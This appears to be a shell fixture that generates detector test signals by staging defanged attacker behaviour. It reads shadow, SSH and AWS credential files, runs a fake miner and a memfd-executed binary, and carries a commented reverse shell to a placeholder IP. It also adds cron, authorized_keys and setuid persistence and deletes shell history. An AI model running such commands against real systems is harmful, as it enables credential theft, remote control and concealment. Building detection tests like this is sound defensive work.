#!/bin/sh
# Harmless acts that look like an attack, for the example capture. Run by eng/record-example.sh, in a folder of its own and
# with nothing in the environment; what it touches outside of that folder it takes away again.
#   example-acts.sh FIFO     waits for a line from FIFO, then acts
read -r _ < "$1"

# Credentials: password hashes (one byte of them), and two files that were made up for this.
head -c 1 /etc/shadow > /dev/null
cat .ssh/id_ed25519 > /dev/null
cat .aws/credentials > /dev/null

# Programs: a "miner" that is /bin/true, one from a temporary folder, one without a file, a reverse shell that is a comment.
./xmrig -o stratum+tcp://pool.example.invalid:3333
./updater
python3 -S -E -c 'import os
fd = os.memfd_create("memory")
os.write(fd, open("/bin/true", "rb").read())
os.execve(fd, ["from-memory"], {})'
bash -c 'true # bash -i >& /dev/tcp/192.0.2.10/4444 0>&1'

# A program's standard input on a connection, to this machine itself.
python3 -S -E -c 'import os, socket
server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen()
client = socket.create_connection(server.getsockname())
os.dup2(client.fileno(), 0)'

# Ways to stay: a scheduled job (cron leaves names with a dot alone), a key for logins, a file among the programs, a set-user-ID bit.
echo '# an example' > /etc/cron.d/saker.example && rm /etc/cron.d/saker.example
echo 'ssh-ed25519 AAAA example' >> .ssh/authorized_keys
: > /usr/local/bin/saker-example && rm /usr/local/bin/saker-example
chmod u+s updater

# The same in what the detector takes for a container, for its cgroup is named as Docker names them.
if mkdir "$2" 2> /dev/null; then
  sh -c 'echo $$ > "$0/cgroup.procs"; apt-get --version > /dev/null; nsenter --version > /dev/null; exec cat /etc/shadow > /dev/null' "$2"
fi

rm .bash_history
